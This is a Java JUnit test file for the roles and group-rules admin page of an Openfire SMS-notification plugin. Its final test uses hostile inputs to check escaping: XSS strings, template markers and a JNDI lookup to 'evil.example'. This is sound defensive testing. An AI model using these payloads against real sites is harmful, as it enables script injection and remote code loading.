package org.igniterealtime.openfire.plugins.smsnotify.admin.roles;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.igniterealtime.openfire.plugins.smsnotify.admin.page.Html;
import org.igniterealtime.openfire.plugins.smsnotify.admin.page.Visited;
import org.igniterealtime.openfire.plugins.smsnotify.admin.page.Visited.Answered;
import org.igniterealtime.openfire.plugins.smsnotify.policy.RoleStore.GroupRule;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The list of roles, and the rules that give them to groups. */
class RolesPageTest {

  private static final String PLACE = "(place)";

  private final Cast cast = new Cast();

  private Html page() {
    return cast.list().look().html();
  }

  /** Presses undo, as the page after it would offer it. */
  private static Answered undo(Visited visited) {
    Map<String, String> fields = new LinkedHashMap<>();
    Html page = visited.look().html();
    page.all("form")
        .findFirst()
        .ifPresent(
            form -> {
              var inputs = form.getElementsByTagName("input");
              for (int i = 0; i < inputs.getLength(); i++) {
                var input = (org.w3c.dom.Element) inputs.item(i);
                fields.put(input.getAttribute("name"), input.getAttribute("value"));
              }
            });
    return visited.request("POST", fields);
  }

  @Test
  void onAFreshInstallThereIsTheDefaultRoleAndNoRule() {
    Html page = page();

    assertEquals(
        List.of(
            "default made of the server’s properties",
            "on Switch off for everybody",
            "nothing: all as built in",
            "everybody who has no other",
            "Edit Duplicate"),
        page.texts("td"));
    assertTrue(page.text().contains("No group has a role of its own yet"), page.text());
  }

  @Test
  void aRoleIsShownWithWhatItSetsDifferentlyAndWhoHasIt() {
    cast.role("Nurse", "quietPeriod=120; rooms=ALL; offlineDelay=60; capPerSender=0")
        .rule("nurses", "nurse")
        .group("nurses", "romeo", "juliet")
        .person("tybalt", "NURSE");

    assertEquals(
        List.of(
            "Nurse",
            "on Switch off",
            "Quiet period: 2 min Messages in rooms: all Because of one sender in 24 hours: any"
                + " number",
            "given to 1 person by the user property the group nurses (2 people)",
            "Edit Duplicate Delete"),
        page().texts("td").subList(5, 10));
  }

  @Test
  void ofManyDifferencesTheFirstAreNamed() {
    cast.role(
        "Nurse",
        "quietPeriod=1; offlineDelay=2; longestHold=3; attentionSpan=11; firstPause=5;"
            + " longestPause=6; rooms=all; mms=true");

    assertTrue(page().texts("td").get(7).endsWith("and 2 more"), page().texts("td").get(7));
  }

  @Test
  void whatIsWrongWithARoleStandsThere() {
    cast.role("Nurse", "rooms=some").role("Nurse.rooms", "").read();
    cast.properties.put("smsnotify.quietPeriod", "soon");
    cast.read();

    List<String> cells = page().texts("td");

    assertTrue(cells.get(2).contains("The property smsnotify.quietPeriod is"), cells::toString);
    assertTrue(cells.get(7).contains("The setting rooms of the role"), cells::toString);
    assertFalse(cells.get(12).contains("The setting"), cells::toString);
  }

  @Test
  void aRoleIsSwitchedOffAndOnAndBackAgain() {
    cast.role("Nurse", "rooms=all");
    Visited list = cast.list();

    Answered answered = list.send("do", "sms", "name", "nurse", "to", "false");

    assertEquals("roles.jsp", answered.location());
    assertEquals(Map.of("rooms", "all", "sms", "false"), cast.stored.get("Nurse"));
    assertEquals(1, cast.told);
    assertEquals(
        List.of("admin|switched texts off for the role \"Nurse\"|sms: \"\" -> \"false\""),
        list.audited());
    undo(list);
    assertEquals(Map.of("rooms", "all"), cast.stored.get("Nurse"));
  }

  @Test
  void theDefaultRoleIsSwitchedByItsPropertyAndThenNobodyIsTexted() {
    cast.role("Nurse", "");
    Visited list = cast.list();

    list.send("do", "sms", "name", "default", "to", "false");

    assertEquals(Map.of("smsnotify.enabled", "false"), cast.properties);
    List<String> cells = page().texts("td");
    assertEquals("off Switch on", cells.get(1));
    assertEquals("off since texts are switched off for everybody", cells.get(6));
    undo(list);
    assertEquals(Map.of(), cast.properties);
  }

  @Test
  void aRoleThatNobodyHasIsDeletedAtOnceAndCanBeSavedAgain() {
    cast.role("Nurse", "rooms=all; mms=true");
    Visited list = cast.list();

    list.send("do", "delete", "name", "Nurse");

    assertEquals(Map.of(), cast.stored);
    undo(list);
    assertEquals(Map.of("rooms", "all", "mms", "true"), cast.stored.get("Nurse"));
  }

  @Test
  void aRoleThatSomebodyHasIsAskedAboutFirst() {
    cast.role("Nurse", "rooms=all").role("Guest", "").person("tybalt", "nurse");
    cast.rule("visitors", "Guest").rule("nurses", "Nurse").rule("porters", "nurse ");
    Visited list = cast.list();

    Answered asked = list.send("do", "delete", "name", "Nurse");

    assertEquals(200, asked.status());
    assertEquals(List.of("nurses", "porters"), asked.html().texts("li"));
    assertTrue(asked.html().text().contains("1 person"), asked.body());
    assertTrue(cast.stored.containsKey("Nurse"));

    list.send("do", "delete", "name", "Nurse", "sure", "true");
    assertEquals(List.of(new GroupRule("visitors", "Guest")), cast.rules);
    assertFalse(cast.stored.containsKey("Nurse"));
    String said = page().text();
    assertTrue(said.contains("There is no role nurse (1 person)"), said);

    undo(list);
    assertEquals(
        List.of(
            new GroupRule("visitors", "Guest"),
            new GroupRule("nurses", "Nurse"),
            new GroupRule("porters", "Nurse")),
        cast.rules);
    assertEquals(Map.of("rooms", "all"), cast.stored.get("Nurse"));
  }

  @Test
  void theDefaultRoleIsNotDeleted() {
    Visited list = cast.list();

    list.send("do", "delete", "name", "default", "sure", "true");

    assertTrue(list.said().contains("There is no role default"), list.said());
    assertEquals(0, cast.told);
  }

  @Test
  void aRuleIsAddedBelowTheOthersAndTakenBack() {
    cast.role("Nurse", "").group("nurses").group("doctors").rule("doctors", "default");
    Visited list = cast.list();

    Answered answered = list.send("do", "rule-add", "group", "nurses", "role", "Nurse");

    assertEquals("roles.jsp#sn-rules", answered.location());
    assertEquals(
        List.of(new GroupRule("doctors", "default"), new GroupRule("nurses", "Nurse")), cast.rules);
    assertEquals(1, cast.told);
    undo(list);
    assertEquals(List.of(new GroupRule("doctors", "default")), cast.rules);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          ''      | This must not be empty.
          doctors | There is a rule for this group already: move or remove that one.
          nurse   | There is no group of that name in Openfire; perhaps “nurses” is meant.
          Nurses  | There is no group of that name in Openfire; perhaps “nurses” is meant.
          xyzzyxyzzy | There is no group of that name in Openfire. Upper and lower case matter.
          """)
  void aRuleForAGroupThatCannotHaveOneIsRefusedBesideItsField(String group, String sentence) {
    cast.group("nurses").group("doctors").rule("doctors", "default");

    Html page = cast.list().send("do", "rule-add", "group", group, "role", "default").html();

    assertEquals(sentence, page.errorOf("group"));
    assertEquals(group, page.valueOf("group"));
    assertEquals(1, cast.rules.size());
  }

  @Test
  void whileNothingCanBeStoredWhatWasTypedStays() {
    cast.group("nurses").isAway = true;

    Html page = cast.list().send("do", "rule-add", "group", "nurses", "role", "default").html();

    assertEquals("nurses", page.valueOf("group"));
    assertTrue(page.textOf("sn-complaints").contains("could not be stored right now"));
  }

  @ParameterizedTest
  @CsvSource(
      textBlock =
          """
          rule-up,     1, b, b a c
          rule-up,     0, a, a b c
          rule-down,   1, b, a c b
          rule-down,   2, c, a b c
          rule-remove, 0, a, b c
          rule-remove, 1, a, a b c
          rule-remove, 9, a, a b c
          rule-up,     x, a, a b c
          """)
  void aRuleIsMovedOrRemovedUnlessItIsNoLongerThere(
      String what, String index, String group, String after) {
    cast.rule("a", "default").rule("b", "default").rule("c", "default");

    cast.list().send("do", what, "index", index, "of-group", group, "of-role", "default");

    assertEquals(List.of(after.split(" ")), cast.rules.stream().map(GroupRule::group).toList());
  }

  @Test
  void aRuleThatWasRemovedIsPutBackWhereItWas() {
    cast.rule("a", "default").rule("b", "default").rule("c", "default");
    Visited list = cast.list();
    list.send("do", "rule-remove", "index", "1", "of-group", "b", "of-role", "default");

    undo(list);

    assertEquals(List.of("a", "b", "c"), cast.rules.stream().map(GroupRule::group).toList());
  }

  @Test
  void aRuleThatNeverCountsSaysWhy() {
    cast.group("a", "romeo").rule("a", "Guest").rule("a", "default").rule("b", "default");

    List<String> cells = page().texts("td");

    assertTrue(cells.get(8).startsWith("1 person There is no role “Guest”"), cells.get(8));
    assertEquals("1 person This rule never counts: one above has the same group.", cells.get(13));
    assertEquals("There is no group of that name.", cells.get(18));
  }

  @Test
  void rulesThatAreWrongDoNotKeepOthersFromBeingMoved() {
    cast.rule("a", "Guest").rule("b", "default");

    cast.list().send("do", "rule-up", "index", "1", "of-group", "b", "of-role", "default");

    assertEquals(List.of("b", "a"), cast.rules.stream().map(GroupRule::group).toList());
  }

  @Test
  void whileNobodyCanTellWhoHasWhatTheRestIsShown() {
    cast.role("Nurse", "").rule("nurses", "Nurse").holdersAreAway = true;

    Html page = page();

    assertEquals("the group nurses", page.texts("td").get(8));
    assertTrue(page.text().contains("cannot be told"), page.text());
  }

  @Test
  void whoMayOnlyLookSeesNoButtonsAndIsRefused() {
    cast.role("Nurse", "").rule("nurses", "Nurse");
    Visited list = cast.list().whoMayOnlyLook();

    assertEquals(0, list.look().html().all("form").count());
    assertEquals(0, list.look().html().all("button").count());
    assertEquals(403, list.send("do", "delete", "name", "Nurse", "sure", "true").status());
    assertTrue(cast.stored.containsKey("Nurse"));
  }

  @Test
  void whatNobodyKnowsIsNoPage() {
    assertEquals(404, cast.list().send("do", "dance").status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "{{words.title}}{{{words.title}}}",
        "&lt;b&gt; &amp; &#60;",
        "$1 \\1 {0} ${jndi:ldap://evil.example}",
        "<!-- ]]> -->"
      })
  void whateverPeopleCanTypeIsShownAsTheyTypedIt(String hostile) {
    Html plain = full(PLACE).list().look().html();

    Html page = full(hostile).list().look().html();

    assertEquals(plain.elementNames(), page.elementNames(), "no element comes of it");
    assertEquals(plain.attributeNames(), page.attributeNames(), "nor any attribute");
    assertEquals(plain.text().replace(PLACE, hostile), page.text());
  }

  private static Cast full(String any) {
    return new Cast()
        .role(any, Map.of("template", any))
        .rule(any, any)
        .group(any, "romeo")
        .person("tybalt", any + any)
        .read();
  }
}
